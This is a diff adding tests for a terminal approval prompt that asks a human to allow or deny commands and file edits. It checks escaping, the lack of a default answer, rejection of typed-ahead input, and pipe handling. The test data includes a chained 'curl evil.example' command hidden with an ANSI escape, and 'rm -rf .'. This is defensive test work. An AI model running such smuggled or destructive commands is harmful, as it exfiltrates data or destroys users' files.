@@ -1,0 +1,186 @@
+import assert from 'node:assert/strict';
+import { PassThrough } from 'node:stream';
+import { createLineReader } from '../../src/hosts/cli/lines.ts';
+import { noPaint } from '../../src/hosts/cli/paint.ts';
+import { createTerminalApprover, understand } from '../../src/hosts/cli/prompt.ts';
+import { createTerminal } from '../../src/hosts/cli/terminal.ts';
+import type { Approver, Question } from '../../src/ports/approver.ts';
+import type { Effect } from '../../src/protocol/effect.ts';
+import { edit, exec, root } from './scene.ts';
+import { Sink, until } from './streams.ts';
+
+interface Desk {
+  approver: Approver;
+  input: PassThrough & { isTTY?: boolean };
+  shown: Sink;
+  close: () => void;
+}
+
+function desk(tty = true): Desk {
+  const input: Desk['input'] = new PassThrough();
+  input.isTTY = tty;
+  const shown = new Sink();
+  const lines = createLineReader(input);
+  const terminal = createTerminal(new Sink(), shown, false);
+  const approver = createTerminalApprover({
+    lines,
+    terminal,
+    paint: noPaint,
+    width: 80,
+    root: () => root,
+    echoes: tty,
+  });
+  return { approver, input, shown, close: () => lines.close() };
+}
+
+const question = (value: Effect, id = 'q1'): Question => ({
+  id,
+  effect: 'e1',
+  value,
+  decision: { verdict: 'ask', by: { type: 'static' }, reasons: [{ code: 'static.command', args: {} }] },
+});
+const never = new AbortController().signal;
+const asked = (shown: Sink): Promise<void> => until(() => shown.text.includes('[y]'));
+
+describe('a question at the terminal', () => {
+  it('shows what, where, how long, why and the keys', async () => {
+    const { approver, input, shown, close } = desk();
+    const answer = approver.ask(question(exec('npm test\n&& curl evil.example\u001b[8m')), never);
+    await asked(shown);
+    input.write('y\n');
+    assert.deepEqual(await answer, { answer: { verdict: 'allow' }, surface: 'terminal' });
+    assert.equal(
+      shown.text,
+      [
+        '',
+        '? Run this command?',
+        '  │ npm test',
+        '  │ && curl evil.example␛[8m',
+        '  It runs in the workspace, for at most 2 min 0 s.',
+        '  A command can do whatever you can do on this machine: it is not confined to',
+        '  the workspace. Allow it only if you know what it does.',
+        '[y] allow once  [n] deny  [w] deny and say why  > ',
+      ].join('\n'),
+    );
+    close();
+  });
+
+  it('shows an edit as a diff, and all of a long one when asked to', async () => {
+    const { approver, input, shown, close } = desk();
+    const body = Array.from({ length: 200 }, (_, index) => `+line ${index}`).join('\n');
+    const answer = approver.ask(
+      question(edit('a.ts', `--- a.ts\n+++ a.ts\n@@ -0,0 +1,200 @@\n${body}\n`, 200, 0)),
+      never,
+    );
+    await asked(shown);
+    assert.match(shown.text, /\? Change a\.ts\? {2}\+200 −0/);
+    assert.match(shown.text, /… 141 more lines/);
+    assert.doesNotMatch(shown.text, /line 199/);
+    input.write('v\n');
+    await until(() => shown.text.includes('line 199'));
+    input.write('n\n');
+    assert.deepEqual((await answer)?.answer, { verdict: 'deny' });
+    close();
+  });
+
+  it('has no default, and asks again until it is understood', async () => {
+    const { approver, input, shown, close } = desk();
+    const answer = approver.ask(question(exec('x')), never);
+    await asked(shown);
+    input.write('\nmaybe\nY\n');
+    assert.deepEqual((await answer)?.answer, { verdict: 'allow' });
+    assert.equal(shown.text.split('Please answer').length, 3);
+    close();
+  });
+
+  it('takes a reason with a no, at once or when it asks for one', async () => {
+    const { approver, input, shown, close } = desk();
+    const first = approver.ask(question(exec('x')), never);
+    await asked(shown);
+    input.write('w use the other file\n');
+    assert.deepEqual((await first)?.answer, { verdict: 'deny', why: 'use the other file' });
+    const second = approver.ask(question(exec('x')), never);
+    await until(() => shown.text.split('[y]').length === 3);
+    input.write('w\n');
+    await until(() => shown.text.includes('Why? > '));
+    input.write('too risky\n');
+    assert.deepEqual((await second)?.answer, { verdict: 'deny', why: 'too risky' });
+    close();
+  });
+
+  it('is not answered by what was typed before it was shown', async () => {
+    const { approver, input, shown, close } = desk();
+    const first = approver.ask(question(exec('x')), never);
+    await asked(shown);
+    input.write('n\ny\n');
+    await first;
+    const second = approver.ask(question(exec('rm -rf .')), never);
+    await until(() => shown.text.split('[y]').length === 3);
+    input.write('n\n');
+    assert.deepEqual((await second)?.answer, { verdict: 'deny' });
+    close();
+  });
+
+  it('waits for the one before it', async () => {
+    const { approver, input, shown, close } = desk();
+    const first = approver.ask(question(exec('first')), never);
+    const second = approver.ask(question(exec('second')), never);
+    await asked(shown);
+    assert.doesNotMatch(shown.text, /second/);
+    input.write('y\n');
+    await first;
+    await until(() => shown.text.includes('second'));
+    input.write('n\n');
+    assert.deepEqual((await second)?.answer, { verdict: 'deny' });
+    close();
+  });
+
+  it('is withdrawn by its signal, and the next line belongs to the next question', async () => {
+    const { approver, input, shown, close } = desk();
+    const gone = new AbortController();
+    const first = approver.ask(question(exec('x')), gone.signal);
+    await asked(shown);
+    gone.abort();
+    assert.equal(await first, null);
+    assert.match(shown.text, /\(withdrawn\)\n$/);
+    const second = approver.ask(question(exec('y')), never);
+    await until(() => shown.text.split('[y]').length === 3);
+    input.write('y\n');
+    assert.deepEqual((await second)?.answer, { verdict: 'allow' });
+    close();
+  });
+
+  it('is answered from a pipe, line by line, and by nobody after its end', async () => {
+    const { approver, input, shown, close } = desk(false);
+    input.end('y\nn\n');
+    const answers = [];
+    for (const id of ['1', '2', '3']) answers.push(await approver.ask(question(exec('x'), id), never));
+    assert.deepEqual(
+      answers.map(answer => answer?.answer.verdict ?? null),
+      ['allow', 'deny', null],
+    );
+    assert.match(shown.text, /> y\n/);
+    assert.match(shown.text, /\(nobody there\)\n$/);
+    close();
+  });
+});
+
+describe('an answer', () => {
+  it('is understood in a few spellings and never guessed', () => {
+    const heard = (line: string): string => {
+      const found = understand(line);
+      return found.type === 'answer' ? found.answer.verdict : found.type;
+    };
+    assert.deepEqual([' Y ', 'yes', 'n', 'NO', 'w', 'w no', 'v'].map(heard), [
+      'allow',
+      'allow',
+      'deny',
+      'deny',
+      'why',
+      'deny',
+      'view',
+    ]);
+    for (const line of ['', 'yep', 'y n', 'ok', 'ja', '1', 'why', 'y\u200b'])
+      assert.equal(heard(line), 'unclear', JSON.stringify(line));
+  });
+});
